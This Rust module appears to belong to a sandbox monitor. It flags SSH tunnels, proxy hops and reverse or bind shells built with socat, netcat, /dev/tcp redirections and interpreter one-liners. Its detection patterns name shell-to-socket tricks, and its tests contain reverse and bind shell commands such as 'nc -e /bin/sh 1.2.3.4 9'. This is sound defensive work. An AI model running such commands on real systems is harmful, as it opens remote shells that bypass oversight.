//! `tunnel.*` (ssh forwarding, autossh, ssh on egress) and `shell.*`
//! (reverse and bind shells).

use super::{
    base, hit, host_port, interpreter, pid_subject, q, Ev, Exec, Facts, Families, Hit, SHELLS,
};
use crate::Severity;
use corral_event::Stdio;

const TUNNEL: &str = "T1572";
const SHELL: &str = "T1059.004";

/// ssh options that take an argument (OpenSSH's getopt string).
const SSH_WITH_ARG: &str = "BbcDEeFIiJLlmOopQRSWw";
/// ssh options without one.
const SSH_FLAGS: &str = "46AaCfGgKkMNnqsTtVvXxYy";

/// What an ssh command line asks for.
#[derive(Debug, Default, PartialEq)]
struct SshPlan {
    /// `-L 8080:x:80`, `-o RemoteForward=...`: port forwarding or a tun device.
    forwards: Vec<String>,
    /// `-J`, `-W`, `ProxyJump`, a `ProxyCommand` not to corral's proxy.
    hops: Vec<String>,
}

/// Whether a ProxyCommand reaches corral's own proxy (127.0.0.1:3128 for
/// CONNECT, :1080 for SOCKS5): the documented way to run ssh in the sandbox.
fn to_corral_proxy(command: &str) -> bool {
    let local = ["127.0.0.1", "localhost", "[::1]", "::1"]
        .iter()
        .any(|h| command.contains(h));
    local && (command.contains("3128") || command.contains("1080"))
}

fn ssh_option(option: &str, plan: &mut SshPlan) {
    let (key, value) = match option.split_once(['=', ' ']) {
        Some((k, v)) => (k.trim().to_ascii_lowercase(), v.trim()),
        None => (option.to_ascii_lowercase(), ""),
    };
    match key.as_str() {
        "localforward" | "remoteforward" | "dynamicforward" => {
            plan.forwards.push(format!("-o {option}"));
        }
        "tunnel" if !value.eq_ignore_ascii_case("no") => {
            plan.forwards.push(format!("-o {option}"));
        }
        "proxyjump" if !value.eq_ignore_ascii_case("none") => {
            plan.hops.push(format!("-o {option}"));
        }
        "proxycommand" if !value.eq_ignore_ascii_case("none") && !to_corral_proxy(value) => {
            plan.hops.push(format!("-o {option}"));
        }
        _ => {}
    }
}

/// Parses ssh's arguments as OpenSSH does: options, the destination, more
/// options, then the remote command (whose `-R` is not ssh's).
fn ssh_plan(args: &[&str]) -> SshPlan {
    let mut plan = SshPlan::default();
    let mut host_seen = false;
    let mut i = 0;
    while i < args.len() {
        let arg = args[i];
        i += 1;
        if arg == "--" {
            break;
        }
        let Some(cluster) = arg.strip_prefix('-').filter(|c| !c.is_empty()) else {
            if host_seen {
                break;
            }
            host_seen = true;
            continue;
        };
        for (at, flag) in cluster.char_indices() {
            if SSH_FLAGS.contains(flag) {
                continue;
            }
            if !SSH_WITH_ARG.contains(flag) {
                break;
            }
            let attached = &cluster[at + flag.len_utf8()..];
            let value = if attached.is_empty() {
                i += 1;
                args.get(i - 1).copied().unwrap_or("")
            } else {
                attached
            };
            match flag {
                'L' | 'R' | 'D' | 'w' => plan.forwards.push(format!("-{flag} {value}")),
                'J' | 'W' => plan.hops.push(format!("-{flag} {value}")),
                'o' => ssh_option(value, &mut plan),
                _ => {}
            }
            break;
        }
    }
    plan
}

/// autossh's arguments without its own `-M port` (the rest are ssh's).
fn autossh_args<'a>(args: &[&'a str]) -> Vec<&'a str> {
    let mut out = Vec::with_capacity(args.len());
    let mut i = 0;
    while i < args.len() {
        if args[i] == "-M" {
            i += 2;
            continue;
        }
        if args[i].starts_with("-M") {
            i += 1;
            continue;
        }
        out.push(args[i]);
        i += 1;
    }
    out
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Direction {
    Reverse,
    Bind,
}

/// socat joining a program to a network address.
fn socat_shell(args: &[&str]) -> Option<Direction> {
    let mut program = false;
    let mut connect = false;
    let mut listen = false;
    for arg in args.iter().filter(|a| !a.starts_with('-') || a.len() == 1) {
        let kind = arg
            .split([':', ','])
            .next()
            .unwrap_or("")
            .to_ascii_uppercase();
        match kind.as_str() {
            "EXEC" | "SYSTEM" => program = true,
            "TCP" | "TCP4" | "TCP6" | "TCP-CONNECT" | "TCP4-CONNECT" | "TCP6-CONNECT"
            | "OPENSSL" | "OPENSSL-CONNECT" | "SSL" | "UDP" | "UDP4" | "UDP6" | "UDP-CONNECT"
            | "UDP4-CONNECT" | "UDP6-CONNECT" | "SCTP-CONNECT" | "SOCKS4" | "SOCKS4A"
            | "SOCKS5" | "SOCKS5-CONNECT" | "PROXY" | "PROXY-CONNECT" => connect = true,
            "TCP-LISTEN" | "TCP-L" | "TCP4-LISTEN" | "TCP6-LISTEN" | "OPENSSL-LISTEN" | "SSL-L"
            | "UDP-LISTEN" | "UDP4-LISTEN" | "UDP6-LISTEN" | "SCTP-LISTEN" => listen = true,
            _ => {}
        }
    }
    match (program, listen, connect) {
        (true, true, _) => Some(Direction::Bind),
        (true, false, true) => Some(Direction::Reverse),
        _ => None,
    }
}

/// Whether an nc `-e`/`-c` value names a program to run.
fn runs_program(value: &str) -> bool {
    let first = value.split_whitespace().next().unwrap_or("");
    first.contains('/') || SHELLS.contains(&base(first)) || interpreter(base(first))
}

/// nc/ncat with an exec option; the program it runs.
fn nc_shell(args: &[&str]) -> Option<(Direction, String)> {
    let mut program = None;
    let mut listen = false;
    let mut i = 0;
    while i < args.len() {
        let arg = args[i];
        i += 1;
        if let Some(long) = arg.strip_prefix("--") {
            let (name, inline) = match long.split_once('=') {
                Some((n, v)) => (n, Some(v)),
                None => (long, None),
            };
            match name {
                "listen" => listen = true,
                "exec" | "sh-exec" | "lua-exec" => {
                    let value = inline.or_else(|| {
                        i += 1;
                        args.get(i - 1).copied()
                    });
                    program = value.map(str::to_owned).or(program);
                }
                _ => {}
            }
            continue;
        }
        let Some(cluster) = arg.strip_prefix('-').filter(|c| !c.is_empty()) else {
            continue;
        };
        for (at, flag) in cluster.char_indices() {
            match flag {
                'l' => listen = true,
                'e' | 'c' => {
                    let attached = &cluster[at + 1..];
                    let value = if attached.is_empty() {
                        args.get(i).copied()
                    } else {
                        Some(attached)
                    };
                    if let Some(value) = value.filter(|v| runs_program(v)) {
                        if attached.is_empty() {
                            i += 1;
                        }
                        program = Some(value.to_owned());
                    }
                    break;
                }
                _ => {}
            }
        }
    }
    let program = program?;
    Some((
        if listen {
            Direction::Bind
        } else {
            Direction::Reverse
        },
        program,
    ))
}

/// A shell or interpreter one-liner that joins a socket to a shell.
fn one_liner(x: &Exec<'_>) -> Option<&'static str> {
    let args = x.args();
    let shell = SHELLS.contains(&x.name.as_str());
    if (shell || interpreter(&x.name))
        && args
            .iter()
            .any(|a| a.contains("/dev/tcp/") || a.contains("/dev/udp/"))
    {
        return Some("a /dev/tcp redirection");
    }
    if shell {
        let script = args
            .iter()
            .any(|a| a.contains("mkfifo") || a.contains("mknod"))
            && args.iter().any(|a| {
                [
                    " nc ",
                    "ncat",
                    "netcat",
                    "telnet",
                    "openssl s_client",
                    "|nc ",
                    "| nc ",
                ]
                .iter()
                .any(|t| a.contains(t))
                    || a.starts_with("nc ")
            });
        if script {
            return Some("a named pipe between a shell and a network client");
        }
    }
    if interpreter(&x.name) {
        let socket = args.iter().any(|a| {
            [
                "socket",
                "TCPSocket",
                "fsockopen",
                "net.Socket",
                "net.connect",
                "IO::Socket",
            ]
            .iter()
            .any(|t| a.contains(t))
        });
        let shell_out = args.iter().any(|a| {
            [
                "/bin/sh",
                "/bin/bash",
                "sh -i",
                "bash -i",
                "pty.spawn",
                "dup2",
                "\"sh\"",
                "'sh'",
            ]
            .iter()
            .any(|t| a.contains(t))
        });
        if socket && shell_out {
            return Some("a one-liner joining a socket to a shell");
        }
    }
    None
}

/// Whether a shell or interpreter reads its commands from stdin (no `-c`,
/// `-e`, script file or module).
fn reads_stdin(x: &Exec<'_>) -> bool {
    let shell = SHELLS.contains(&x.name.as_str());
    if !shell && !interpreter(&x.name) {
        return false;
    }
    for arg in x.args() {
        match *arg {
            "-i" | "-s" | "-" | "--interactive" | "-l" | "--login" | "-p" | "--norc"
            | "--noprofile" | "-u" | "-q" => {}
            a if a.starts_with('-') => {
                let cluster = a.trim_start_matches('-');
                if cluster.contains('c') || cluster.contains('e') || cluster.contains('m') {
                    return cluster.contains('i');
                }
            }
            _ => return false,
        }
    }
    true
}

#[derive(Debug, Default)]
pub(crate) struct Tunnel;

impl Tunnel {
    pub fn exec(
        &mut self,
        ev: &Ev<'_>,
        x: &Exec<'_>,
        facts: &Facts,
        on: Families,
        out: &mut Vec<Hit>,
    ) {
        let who = pid_subject(ev);
        if on.tunnel {
            let ssh_args = match x.name.as_str() {
                "ssh" => Some(x.args().to_vec()),
                "autossh" => {
                    out.push(hit(
                        ev,
                        "tunnel.autossh",
                        Severity::High,
                        TUNNEL,
                        who.clone(),
                        format!(
                            "{who} ran autossh, which keeps ssh tunnels up: {}",
                            q(&x.argv.join(" "))
                        ),
                    ));
                    Some(autossh_args(x.args()))
                }
                _ => None,
            };
            if let Some(args) = ssh_args {
                let plan = ssh_plan(&args);
                if !plan.forwards.is_empty() {
                    out.push(hit(
                        ev,
                        "tunnel.ssh",
                        Severity::Critical,
                        TUNNEL,
                        who.clone(),
                        format!(
                            "{who} ran ssh with port forwarding ({}): a tunnel past the egress \
                             proxy",
                            q(&plan.forwards.join(", "))
                        ),
                    ));
                }
                if !plan.hops.is_empty() {
                    out.push(hit(
                        ev,
                        "tunnel.ssh-proxy",
                        Severity::High,
                        TUNNEL,
                        who.clone(),
                        format!(
                            "{who} ran ssh through a hop ({}), not through corral's proxy",
                            q(&plan.hops.join(", "))
                        ),
                    ));
                }
            }
        }
        if !on.shell {
            return;
        }
        let shell = |direction: Direction, what: String, out: &mut Vec<Hit>| {
            let (id, shape) = match direction {
                Direction::Reverse => ("shell.reverse", "a reverse shell"),
                Direction::Bind => ("shell.bind", "a bind shell"),
            };
            out.push(hit(
                ev,
                id,
                Severity::Critical,
                SHELL,
                who.clone(),
                format!("{who} {what}: {shape}"),
            ));
        };
        match x.name.as_str() {
            "socat" => {
                if let Some(direction) = socat_shell(x.args()) {
                    shell(
                        direction,
                        format!(
                            "ran socat joining a program to the network ({})",
                            q(&x.argv.join(" "))
                        ),
                        out,
                    );
                }
            }
            "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "pwncat" => {
                if let Some((direction, program)) = nc_shell(x.args()) {
                    shell(
                        direction,
                        format!("ran {} handing the connection to {}", x.name, q(&program)),
                        out,
                    );
                }
            }
            "busybox" if x.args().first() == Some(&"nc") => {
                if let Some((direction, program)) = nc_shell(&x.args()[1..]) {
                    shell(
                        direction,
                        format!("ran busybox nc handing the connection to {}", q(&program)),
                        out,
                    );
                }
            }
            _ => {}
        }
        if let Some(what) = one_liner(x) {
            shell(
                Direction::Reverse,
                format!("ran {} with {what} ({})", q(&x.name), q(&x.argv.join(" "))),
                out,
            );
            return;
        }
        // stdin and stdout are sockets, and this process or its parent
        // connected out.
        let Some(stdio) = ev.exec().and_then(|e| e.stdio.as_ref()) else {
            return;
        };
        // The monitor says "socket", not which family.
        let socket = |i: usize| stdio.get(i) == Some(&Stdio::Socket);
        if !(socket(0) && socket(1)) {
            return;
        }
        let ppid = ev.exec().and_then(|e| e.ppid);
        let connected = [ev.pid, ppid]
            .into_iter()
            .flatten()
            .any(|p| facts.inet_connects.contains_key(&p));
        if connected && reads_stdin(x) {
            shell(
                Direction::Reverse,
                format!(
                    "ran {} with its stdin and stdout on a network connection",
                    q(&x.argv.join(" "))
                ),
                out,
            );
        }
    }

    /// `tunnel.ssh-egress`: SSH through the proxy, not from git.
    pub fn net(&mut self, ev: &Ev<'_>, facts: &Facts, out: &mut Vec<Hit>) {
        let Some(net) = ev.proxied() else { return };
        if net.protocol != Some("ssh") {
            return;
        }
        let from_git =
            facts.ancestry_any(ev.pid, 6, |name| name == "git" || name.starts_with("git-"));
        if from_git {
            return;
        }
        let dest = host_port(net.host, u64::from(net.port));
        let who = ev
            .pid
            .map_or_else(|| "a process".to_owned(), |p| format!("pid {p}"));
        out.push(hit(
            ev,
            "tunnel.ssh-egress",
            Severity::Medium,
            TUNNEL,
            dest.clone(),
            format!(
                "{who} opened an SSH session to {} through the proxy ({}), not for git: SSH can \
                 carry tunnels and shells",
                q(&dest),
                super::decision_name(net.decision)
            ),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plan(args: &str) -> SshPlan {
        ssh_plan(&args.split(' ').collect::<Vec<_>>())
    }

    #[test]
    fn ssh_forwarding_flags() {
        assert_eq!(
            plan("-R 9000:localhost:22 user@host").forwards,
            ["-R 9000:localhost:22"]
        );
        assert_eq!(
            plan("-fNR 9000:localhost:22 host").forwards,
            ["-R 9000:localhost:22"]
        );
        assert_eq!(plan("-L8080:x:80 host").forwards, ["-L 8080:x:80"]);
        assert_eq!(plan("host -D 1080").forwards, ["-D 1080"]);
        assert_eq!(plan("-w 0:0 host").forwards, ["-w 0:0"]);
        assert_eq!(
            plan("-oRemoteForward=9000 host").forwards,
            ["-o RemoteForward=9000"]
        );
        assert_eq!(plan("-o Tunnel=yes host").forwards, ["-o Tunnel=yes"]);
        assert_eq!(plan("-J jump host").hops, ["-J jump"]);
        assert_eq!(plan("-o ProxyCommand=bash\\ -c\\ x host").hops.len(), 1);
        // The remote command's flags are not ssh's; neither are -l, -p, -i.
        assert_eq!(plan("host ls -R /").forwards, Vec::<String>::new());
        assert_eq!(
            plan("-l git -p 22 -i key -T github.com").forwards,
            Vec::<String>::new()
        );
        assert_eq!(plan("-o Tunnel=no host").forwards, Vec::<String>::new());
        assert_eq!(
            ssh_plan(&[
                "-o",
                "ProxyCommand=nc -X connect -x 127.0.0.1:3128 %h %p",
                "git@github.com"
            ]),
            SshPlan::default()
        );
    }

    #[test]
    fn socat_and_nc() {
        assert_eq!(
            socat_shell(&["TCP:1.2.3.4:9", "EXEC:/bin/sh"]),
            Some(Direction::Reverse)
        );
        assert_eq!(
            socat_shell(&["-d", "tcp-listen:9,fork", "system:bash"]),
            Some(Direction::Bind)
        );
        assert_eq!(
            socat_shell(&["-", "PROXY:127.0.0.1:github.com:22,proxyport=3128"]),
            None
        );
        assert_eq!(
            socat_shell(&["TCP-LISTEN:8080,fork", "TCP:localhost:80"]),
            None
        );
        assert_eq!(
            nc_shell(&["-e", "/bin/sh", "1.2.3.4", "9"]).map(|s| s.0),
            Some(Direction::Reverse)
        );
        assert_eq!(
            nc_shell(&["-lvnpe", "/bin/bash", "4444"]).map(|s| s.0),
            Some(Direction::Bind)
        );
        assert_eq!(
            nc_shell(&["-lvnp", "4444", "-e/bin/sh"]).map(|s| s.0),
            Some(Direction::Bind)
        );
        assert_eq!(
            nc_shell(&["--sh-exec", "bash -i", "x", "9"]).map(|s| s.0),
            Some(Direction::Reverse)
        );
        assert_eq!(nc_shell(&["-c", "example.com", "443"]), None);
        assert_eq!(nc_shell(&["-zv", "localhost", "8080"]), None);
    }
}
